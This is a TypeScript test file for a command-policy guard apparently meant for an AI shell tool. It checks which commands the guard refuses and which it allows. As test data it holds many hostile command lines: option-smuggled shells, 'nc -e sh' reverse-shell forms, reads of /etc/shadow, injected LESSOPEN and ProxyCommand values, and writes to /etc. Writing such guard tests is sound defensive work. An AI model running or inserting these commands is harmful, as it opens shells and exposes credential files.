/**
 * Options that make a program run something (a command, a program, a script file) or write a
 * file, judged by L1 under C-app (no kernel layer) and C-full. The policy is the shell server's,
 * with the programs these tests name added to its exec list: what is judged is what the option
 * runs, not the program that takes it.
 */
import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type Confinement, PROGRAM_FACTS, UNCONFINED, VARIABLE_FACTS } from "@mcpguard/readers";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { decide } from "../src/decide.ts";
import type { Decision } from "../src/decision.ts";
import { type ResolvedPolicy, resolvePolicy } from "../src/load.ts";
import { Policy } from "../src/schema.ts";

const FULL: Confinement = { files: true, exec: true, network: true };
/** Programs beyond the shell policy's that take the options below. */
const EXTRA = ["env", "flock", "watch", ...Object.keys(PROGRAM_FACTS)];
let root: string;
let work: string;
let policy: ResolvedPolicy;

beforeAll(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), "mcpguard-options-")));
  work = join(root, "workspace");
  mkdirSync(join(work, "data"), { recursive: true });
  mkdirSync(join(root, "home"), { recursive: true });
  writeFileSync(join(work, "data", "rows.csv"), "b,2\na,1\n");
  const file = join(__dirname, "..", "..", "..", "policies", "servers", "shell.json");
  const parsed = Policy.parse(JSON.parse(readFileSync(file, "utf8")));
  const tool = parsed.tools.run_command as { exec: string[] };
  tool.exec = [...tool.exec, ...EXTRA];
  policy = resolvePolicy(parsed, undefined, { cwd: work, home: join(root, "home"), tmp: join(root, "tmp") });
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

const run = (command: string, confined: Confinement): Decision =>
  decide(policy, "run_command", { command }, undefined, { confined });
const app = (command: string) => run(command, UNCONFINED);
const full = (command: string) => run(command, FULL);

describe("L1 on options that run something", () => {
  it.each([
    // A compressor is handed the data it compresses: a shell there runs a script taken from it.
    "sort --compress-program=sh -S 1K -T . data/rows.csv",
    "sort --compress-prog=sh -S 1K data/rows.csv",
    "sort --compress-program python3 -S 1K data/rows.csv",
    "tar -I sh -xf a.tgz",
    "tar -xIsh -f a.tgz",
    "tar xIf sh a.tgz",
    "tar --use-compress-program=sh -xf a.tar",
    "tar --use-compress-prog sh -xf a.tar",
    "tar -xf a.tar --to-command=sh",
    "split --filter=sh data/rows.csv",
    "xargs -a data/rows.csv sh",
    "echo 'cat /etc/shadow' | timeout -s KILL 1 sh",
    "echo 'cat /etc/shadow' | timeout -sKILL 1 sh",
    "echo 'cat /etc/shadow' | timeout -vs KILL 1 sh",
    "LESSOPEN='|cat /etc/shadow %s' less data/rows.csv",
    "TAR_OPTIONS=--to-command=sh tar -xf a.tar",
    "MANOPT='-P sh' man ls",
    "tar -P -xf a.tar",
    "less -k keys data/rows.csv",
    "man -H ls",
    "man -C man.conf ls",
    "bash --rcfile data/rows.csv -i",
    "ssh -F cfg host",
    "git --config-env=core.pager=X log",
    "echo x | xargs -i sh cat",
  ])("refuses under C-app what the option runs, and leaves it to the kernel under C-full: %s", (command) => {
    expect(app(command)).toMatchObject({ allow: false });
    expect(full(command)).toEqual({ allow: true });
  });

  it.each([
    "tar -I 'nc -e sh x 1' -cf a.tar data",
    "tar --use-compress-program='nc x' -cf a.tar data",
    "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='nc x' data",
    "tar -cf a.tar --checkpoint=1 --checkpoint-act exec='nc x' data",
    "tar -cf a.tar -F 'nc x' data",
    // An optional value is only ever attached: the next word is not it.
    "tar -cf a.tar --checkpoint --checkpoint-action=exec='nc x' data",
    "sudo -h nc x",
    "zip a.zip data/rows.csv -T -TT 'nc x #'",
    "zip a.zip data/rows.csv -T --unzip-command 'nc x'",
    "rsync -e 'nc x' data host:",
    "rsync --rsh='nc x' data host:",
    "rsync --rsync-path='nc x' data host:",
    "git -c core.sshCommand='nc x' log",
    "git -c core.pager='nc x' log",
    "git -c alias.x='!nc x' x",
    "find . -execdir nc x \\;",
    "find data -ok nc {} \\;",
    "man -P 'nc x' ls",
    "man --pager='nc x' ls",
    "man -H'nc x #' ls",
    "env -S 'nc x'",
    "env -S'nc x'",
    "env -iS 'nc x'",
    "env -C data nc x",
    "timeout -s KILL 1 nc x",
    "timeout -vs KILL 1 nc x",
    "nice -n5 nc x",
    "stdbuf -oL nc x",
    "flock lock nc x",
    "flock lock -c 'nc x'",
    "flock -w 5 lock nc x",
    "watch -x sh -c 'nc x'",
    "watch -g nc x",
    "ssh -o ProxyCommand='nc x' host",
    "ssh -oProxyCommand='nc x' host",
    "ssh -o 'LocalCommand nc x' host",
    "scp -S nc a host:",
    "scp -o ProxyCommand='nc x' a host:",
    "sftp -S nc host",
    "split --filter='nc x' data/rows.csv",
    "sort --compress-program=nc -S 1K data/rows.csv",
    "sdiff --diff-program=nc a b",
    "diff3 --diff-program=nc a b c",
    "script -c 'nc x' /dev/null",
    "su -c 'nc x'",
    "cpio -o --rsh-command nc -F host:x",
    "xargs -i sh -c 'nc x'",
    "xargs -l nc x",
    "xargs -e nc x",
  ])("refuses the program the option runs, under every config: %s", (command) => {
    expect(app(command)).toMatchObject({ allow: false, rule: "l1.exec" });
    expect(full(command)).toMatchObject({ allow: false, rule: "l1.exec" });
  });

  it.each([
    ["sort -o /etc/x data/rows.csv", "l1.path.write"],
    ["sort -o/etc/x data/rows.csv", "l1.path.write"],
    ["sort --output=/etc/x data/rows.csv", "l1.path.write"],
    ["shuf -o/etc/x data/rows.csv", "l1.path.write"],
    ["iconv -f utf8 -t ascii -o/etc/x data/rows.csv", "l1.path.write"],
    ["date -f/etc/shadow", "l1.path.read"],
    ["grep --color -f /etc/shadow data/rows.csv", "l1.path.read"],
    ["diff --context -X /etc/shadow a b", "l1.path.read"],
    ["file -m/etc/shadow data/rows.csv", "l1.path.read"],
    ["find data -fprint /etc/x", "l1.path.write"],
    ["tar -cf a.tar -g/etc/snar data", "l1.path.write"],
    ["tar -xf a.tar --to-command='cat /etc/shadow'", "l1.path.read"],
    ["tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='cat /etc/shadow' data", "l1.path.read"],
  ])("checks the file an option names: %s", (command, rule) => {
    expect(app(command)).toMatchObject({ allow: false, rule });
    expect(full(command)).toMatchObject({ allow: false, rule });
  });

  it.each([
    "sort -k2 data/rows.csv",
    "sort -t, -k2n -o data/sorted.csv data/rows.csv",
    "sort --compress-program=gzip -S 1K -T data data/rows.csv",
    "tar -czf a.tgz data",
    "tar -xzf a.tgz",
    "tar xzf a.tgz",
    "tar -cf a.tar.xz -I 'xz -T0' data",
    "tar --use-compress-program=gzip -cf a.tgz data",
    "tar -xf a.tar --to-command='wc -c'",
    "tar -cf a.tar --checkpoint=100 --checkpoint-action=dot data",
    "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='echo tick' data",
    "zip -r a.zip data",
    "zip a.zip data/rows.csv -T",
    "unzip -l a.zip",
    "find data -name x -print",
    "find data -type f -exec wc -l {} +",
    "split -l 1 data/rows.csv data/part-",
    "split -l 1 --filter='gzip > $FILE.gz' data/rows.csv data/part-",
    "timeout -s KILL 5 sort data/rows.csv",
    "env -S 'sort data/rows.csv'",
    "flock lock sort data/rows.csv",
    "watch -n 1 -x sort data/rows.csv",
    "xargs -a data/rows.csv echo",
    "git -c core.pager=cat log",
    "man -P cat ls",
    "date -f data/rows.csv",
  ])("allows the benign use under C-app and C-full: %s", (command) => {
    expect(app(command)).toEqual({ allow: true });
    expect(full(command)).toEqual({ allow: true });
  });
});

/** The option with its value, as a command line spells it. */
function spelled(option: string, value: string, attached = false): string {
  const quoted = `'${value}'`;
  if (attached) return `${option}${quoted}`;
  if (option === "+") return `'+${value}'`;
  if (option.startsWith("--")) return `${option}=${quoted}`;
  return `${option} ${quoted}`;
}

/** What each kind of value is handed: something the policy refuses, and something it allows. */
const VALUES: Record<string, { bad: string; good?: string }> = {
  command: { bad: "nc x", good: "true" },
  program: { bad: "nc", good: "true" },
  read: { bad: "/etc/shadow", good: "data/rows.csv" },
  write: { bad: "/etc/x", good: "data/out" },
  script: { bad: "data/rows.csv" },
  code: { bad: "data/rows.csv" },
};

interface Case {
  option: string;
  does: string;
  bad: string;
  good?: string;
}

/** Each option of the table (each key of a `Key=value` option), with a use it refuses and one it allows. */
function tableCases(): Case[] {
  const cases: Case[] = [];
  for (const [program, facts] of Object.entries(PROGRAM_FACTS)) {
    // sdiff -o reads its merge commands from its input: a known one that runs nothing.
    const input = facts.input ? " a b <<< l" : "";
    for (const [option, fact] of Object.entries(facts.options)) {
      // An optional value is only ever attached (`man -Hfirefox`).
      const attached = /^-[^-]$/.test(option) && !!facts.optional?.includes(option[1] as string);
      if (fact.does === "anywhere") {
        cases.push({ option, does: fact.does, bad: `${program} ${option}` });
        continue;
      }
      const ways: [string, string, (value: string) => string][] = fact.keys
        ? Object.entries(fact.keys).map(([key, does]) => [
            `${option} ${key}`,
            does,
            (value) => `${program} ${option} '${key}=${value}'`,
          ])
        : [
            [
              option,
              fact.does,
              (value) => `${program} ${spelled(option, (fact.prefix ?? "") + value, attached)}${input}`,
            ],
          ];
      for (const [name, does, line] of ways) {
        const values = VALUES[does] as { bad: string; good?: string };
        // Where /bin/sh is bash, `time` is its keyword, which runs `-o` as the command: refused.
        const good = program === "time" ? undefined : values.good;
        cases.push({
          option: name,
          does,
          bad: line(values.bad),
          ...(good ? { good: line(good) } : {}),
        });
      }
    }
  }
  return cases;
}

describe("the table of programs' options, walked whole", () => {
  const cases = tableCases();

  it("has an entry for every program a policy of the repository lets a command run that takes such an option", () => {
    expect(cases.length).toBeGreaterThan(150);
    for (const program of ["tar", "sort", "split", "zip", "find", "xargs", "sdiff", "diff3", "date", "iconv"])
      expect(Object.keys(PROGRAM_FACTS)).toContain(program);
  });

  it.each(cases.map((c) => [c.bad, c.does, c] as const))(
    "refuses under C-app: %s (%s)",
    (command, does, c) => {
      const rule = { command: "l1.exec", program: "l1.exec", read: "l1.path.read", write: "l1.path.write" }[
        does as string
      ];
      expect(app(command), c.option).toMatchObject({ allow: false, ...(rule ? { rule } : {}) });
      if (rule) expect(full(command), c.option).toMatchObject({ allow: false, rule });
      else expect(full(command), c.option).toEqual({ allow: true });
    },
  );

  it.each(cases.filter((c) => c.good).map((c) => [c.good as string, c] as const))(
    "allows the same option running an allowed program or naming a file in the workspace: %s",
    (command) => {
      expect(full(command)).toEqual({ allow: true });
      // wget -i fetches the URLs the file holds, which only the run knows: C-app leaves that to
      // no one (src/curl.ts).
      if (/^wget (-i|--input-file)\b/.test(command))
        expect(app(command)).toMatchObject({ allow: false, rule: "l1.command.dynamic" });
      else expect(app(command)).toEqual({ allow: true });
    },
  );

  it.each(Object.keys(VARIABLE_FACTS))(
    "refuses setting %s under C-app, and leaves it to the kernel under C-full",
    (name) => {
      const command = `${name}=x cat data/rows.csv`;
      expect(app(command)).toMatchObject({ allow: false, rule: "l1.command.dynamic" });
      expect(full(command)).toEqual({ allow: true });
    },
  );

  it("refuses a word only the run knows where it may be an option that runs a command", () => {
    expect(app('o=$(cat data/rows.csv); tar "$o" -xf a.tar')).toMatchObject({ allow: false });
    expect(full('o=$(cat data/rows.csv); tar "$o" -xf a.tar')).toEqual({ allow: true });
  });
});
